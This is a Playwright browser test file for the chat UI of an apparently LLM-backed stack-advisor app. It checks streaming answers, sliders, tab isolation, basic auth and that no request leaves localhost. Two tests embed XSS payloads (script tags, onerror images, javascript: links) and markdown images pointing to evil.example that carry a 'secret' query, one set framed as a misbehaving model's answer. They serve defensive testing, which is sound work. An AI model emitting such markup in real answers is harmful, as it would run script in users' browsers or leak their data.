"""The UI in a real headless Chromium (Debian's /usr/bin/chromium, driven by Playwright; never `playwright install`).

Type a question and watch it stream; open the verification badge and the sources; read the scorecard; move a
slider and see the ranking change; hostile HTML stays text; two tabs keep their own conversations; no request
leaves 127.0.0.1. Screenshots go to the test's tmp_path and to out/screenshots/.
"""

from __future__ import annotations

import os
import shutil
import time
from pathlib import Path
from typing import Any, Iterator
from urllib.parse import urlsplit

import pytest

from test_web import ThreadServer, running

CHROMIUM = "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync"]
SHOTS = Path(__file__).resolve().parents[1] / "out" / "screenshots"
CHAT_Q = "We're building a real-time chat app and the team knows React: which backend?"

pytestmark = pytest.mark.browser

if not os.path.exists(CHROMIUM):
    if os.environ.get("CI") == "true":
        pytest.fail(f"{CHROMIUM} is missing: CI must install Debian's chromium (apt-get install -y chromium)", pytrace=False)
    pytest.skip(f"{CHROMIUM} is missing (apt-get install -y chromium); browser tests skipped", allow_module_level=True)

expect = pytest.importorskip("playwright.sync_api", reason="pip install playwright (the dev extra)").expect


@pytest.fixture(scope="module")
def server(built_home: Path) -> Iterator[ThreadServer]:
    with running(built_home) as srv:
        yield srv


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        b.close()


class Tab:
    """One browser tab on the app, recording dialogs, requests and page errors."""

    def __init__(self, browser: Any, url: str, **context: Any) -> None:
        self.context = browser.new_context(viewport={"width": 1400, "height": 1000}, **context)
        self.page = self.context.new_page()
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.errors: list[str] = []
        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        self.page.on("request", lambda r: self.requests.append(r.url))
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.page.goto(url, wait_until="domcontentloaded")  # networkidle never comes: the page keeps a stream open
        self.page.wait_for_selector("#question textarea", timeout=20_000)

    def ask(self, question: str) -> float:
        """Send a question; return the seconds until the first answer text appeared; wait for the whole answer."""
        page = self.page
        users = page.locator("#chat [data-testid='user']").count()
        badges = page.evaluate("() => (document.querySelector('#chat').innerText.match(/backend offline/g) || []).length")
        page.fill("#question textarea", question)
        started = time.perf_counter()
        page.press("#question textarea", "Enter")
        # the first answer text after this question's own message (the bot bubble after the newest user bubble)
        page.wait_for_function(
            """(n) => { const rows = [...document.querySelectorAll('#chat [data-testid="user"], #chat [data-testid="bot"]')];
                        const mine = rows.filter(r => r.dataset.testid === 'user');
                        if (mine.length <= n) return false;
                        const after = rows.slice(rows.indexOf(mine[mine.length - 1]) + 1);
                        return after.some(r => r.innerText.trim().length > 0); }""",
            arg=users, timeout=10_000, polling="raf")
        first = time.perf_counter() - started
        page.wait_for_function(  # done: one more verification badge ("... backend offline") than before
            """(n) => (document.querySelector('#chat').innerText.match(/backend offline/g) || []).length > n""",
            arg=badges, timeout=20_000)
        return first

    def ranking(self) -> list[str]:
        return self.page.eval_on_selector_all("#sa-scorecard .sa-row", "rows => rows.map(r => r.dataset.language)")

    def set_slider(self, elem_id: str, end: str) -> None:
        """Move a slider to an end with the keyboard (Home = 0, End = 1), as a user would."""
        slider = self.page.locator(f"#{elem_id} input[type=range]")
        slider.focus()
        self.page.keyboard.press(end)

    def shot(self, tmp_path: Path, name: str) -> Path:
        path = tmp_path / f"{name}.png"
        self.page.screenshot(path=str(path), full_page=True)
        SHOTS.mkdir(parents=True, exist_ok=True)
        shutil.copy(path, SHOTS / path.name)
        return path

    def close(self) -> None:
        self.context.close()


@pytest.fixture
def tab(browser: Any, server: ThreadServer) -> Iterator[Tab]:
    t = Tab(browser, server.url + "/")
    yield t
    t.close()


def test_ask_streams_with_badge_sources_and_scorecard(tab: Tab, tmp_path: Path) -> None:
    tab.ask(CHAT_Q)  # its waits are the hang guard; how soon the first text shows is bench/web_load.py's measure
    page = tab.page
    chat = page.inner_text("#chat")
    assert "Node.js" in chat and "Pick: Node.js" in chat
    assert "claim" in chat and ("supported" in chat or "corrected" in chat)
    page.get_by_text("Sources (").last.click()  # collapsed until clicked: section + excerpt
    page.wait_for_function("() => document.querySelector('#chat').innerText.includes('[1]')")
    assert tab.ranking()[0] == "Node.js" and len(tab.ranking()) == 4
    expect(page.locator("#pick")).to_contain_text("Pick: Node.js", timeout=5_000)
    expect(page.locator("#flip")).to_contain_text("What would change the pick", timeout=5_000)
    checked = page.eval_on_selector_all("#use-cases input[type=checkbox]:checked", "els => els.length")
    assert checked >= 1, "the inferred use case shows as a ticked toggle"
    tab.shot(tmp_path, "answer")
    assert not tab.errors and not tab.dialogs


def test_moving_a_slider_reranks_live(tab: Tab, tmp_path: Path) -> None:
    tab.set_slider("w-speed", "End")
    tab.page.wait_for_function("() => document.querySelectorAll('#sa-scorecard .sa-row').length === 4", timeout=5_000)
    tab.page.wait_for_function("() => document.querySelector('#sa-scorecard .sa-row').dataset.language === 'Rust'", timeout=5_000)
    expect(tab.page.locator("#pick")).to_contain_text("Pick: Rust", timeout=5_000)  # Extremely High speed
    tab.set_slider("w-speed", "Home")
    tab.set_slider("w-learning_curve", "End")
    tab.page.wait_for_function("() => document.querySelector('#sa-scorecard .sa-row').dataset.language === 'Python'", timeout=5_000)
    expect(tab.page.locator("#pick")).to_contain_text("Pick: Python", timeout=5_000)
    tab.shot(tmp_path, "slider")


def test_a_toggle_changes_the_pick_after_an_answer(tab: Tab) -> None:
    tab.ask(CHAT_Q)
    tab.page.wait_for_function("() => document.querySelector('#sa-scorecard .sa-row').dataset.language === 'Node.js'", timeout=5_000)
    tab.page.locator("#excluded label", has_text="Node.js").click()  # rule Node.js out
    tab.page.wait_for_function("() => document.querySelector('#sa-scorecard .sa-row').dataset.language !== 'Node.js'", timeout=5_000)
    expect(tab.page.locator("#pick")).not_to_contain_text("Pick: Node.js", timeout=5_000)
    expect(tab.page.locator("#pick")).to_contain_text("Pick: ", timeout=5_000)


HOSTILE = ('<script>window.__pwned=1;alert(1)</script> <img src=x onerror="window.__pwned=2;alert(2)"> '
           '[click](javascript:window.__pwned=3) ![exfil](http://evil.example/leak.png?q=secret) '
           '<a href="javascript:alert(4)">a</a> Is Go faster than Python?')


def test_hostile_html_renders_as_text(tab: Tab, tmp_path: Path) -> None:
    tab.ask(HOSTILE)
    page = tab.page
    chat = page.inner_text("#chat")
    assert "<script>window.__pwned=1;alert(1)</script>" in chat and "<img src=x onerror=" in chat
    for link in page.locator("#chat a").all():  # try to run any link the text might have produced
        href = link.get_attribute("href") or ""
        assert not href.lower().startswith("javascript"), href
    page.locator("#chat").click()
    assert page.evaluate("window.__pwned") is None
    assert page.locator("#chat img[src*='evil'], #chat img[src='x'], #chat script").count() == 0
    assert not tab.dialogs
    assert not [u for u in tab.requests if "evil.example" in u]
    tab.shot(tmp_path, "hostile")


def test_tabs_do_not_share_conversations_and_new_conversation_clears(browser: Any, server: ThreadServer) -> None:
    a, b = Tab(browser, server.url + "/"), Tab(browser, server.url + "/")
    try:
        a.ask(CHAT_Q)
        b.ask("Is Python faster than Go?")
        assert "real-time chat" not in b.page.inner_text("#chat")
        assert "Python faster than Go" not in a.page.inner_text("#chat")
        a.page.click("#new-chat")
        a.page.wait_for_function("() => !document.querySelector('#chat').innerText.includes('real-time chat')", timeout=5_000)
        assert "Python faster than Go" in b.page.inner_text("#chat")
    finally:
        a.close()
        b.close()


def test_no_request_leaves_localhost(tab: Tab) -> None:
    tab.ask("Compare Go and Rust for concurrency.")
    tab.page.click("#table")  # open the comparison table too
    hosts = {urlsplit(u).hostname for u in tab.requests if not u.startswith(("data:", "blob:"))}
    assert hosts <= {"127.0.0.1"}, hosts


def test_hostile_model_answer_renders_inert(browser: Any, built_home: Path, tmp_path: Path) -> None:
    """An answer forced to carry HTML, script links and a remote image (as a misbehaving LLM would write it)."""
    from dataclasses import replace

    from stackadvisor import Advisor
    from stackadvisor.advisor import Reply

    evil = ('\n\n<script>window.__pwned=1</script><img src="http://evil.example/a.png" onerror="window.__pwned=2">'
            '[docs](javascript:window.__pwned=3) ![x](http://evil.example/b.png)\n')

    class Hostile(Advisor):
        def _run(self, *a: Any, **kw: Any):  # noqa: ANN202
            for item in super()._run(*a, **kw):
                if isinstance(item, Reply):
                    yield evil
                    yield replace(item, answer=item.answer + evil)
                else:
                    yield item

    with running(built_home, advisor=Hostile(home=built_home)) as srv:
        t = Tab(browser, srv.url + "/")
        try:
            t.ask(CHAT_Q)
            assert "<script>window.__pwned=1</script>" in t.page.inner_text("#chat")
            assert t.page.evaluate("window.__pwned") is None and not t.dialogs
            assert t.page.locator("#chat img[src*='evil'], #chat script, #chat a[href^='javascript']").count() == 0
            assert not [u for u in t.requests if "evil.example" in u]
            t.shot(tmp_path, "hostile-answer")
        finally:
            t.close()


def test_basic_auth_in_the_browser(browser: Any, built_home: Path) -> None:
    with running(built_home, auth="carol:browser-pass") as srv:
        anonymous = browser.new_context()
        try:
            assert anonymous.request.get(srv.url + "/").status == 401
        finally:
            anonymous.close()
        t = Tab(browser, srv.url + "/", http_credentials={"username": "carol", "password": "browser-pass"})
        try:
            t.ask(CHAT_Q)
            assert "Pick: Node.js" in t.page.inner_text("#chat") and not t.errors
        finally:
            t.close()
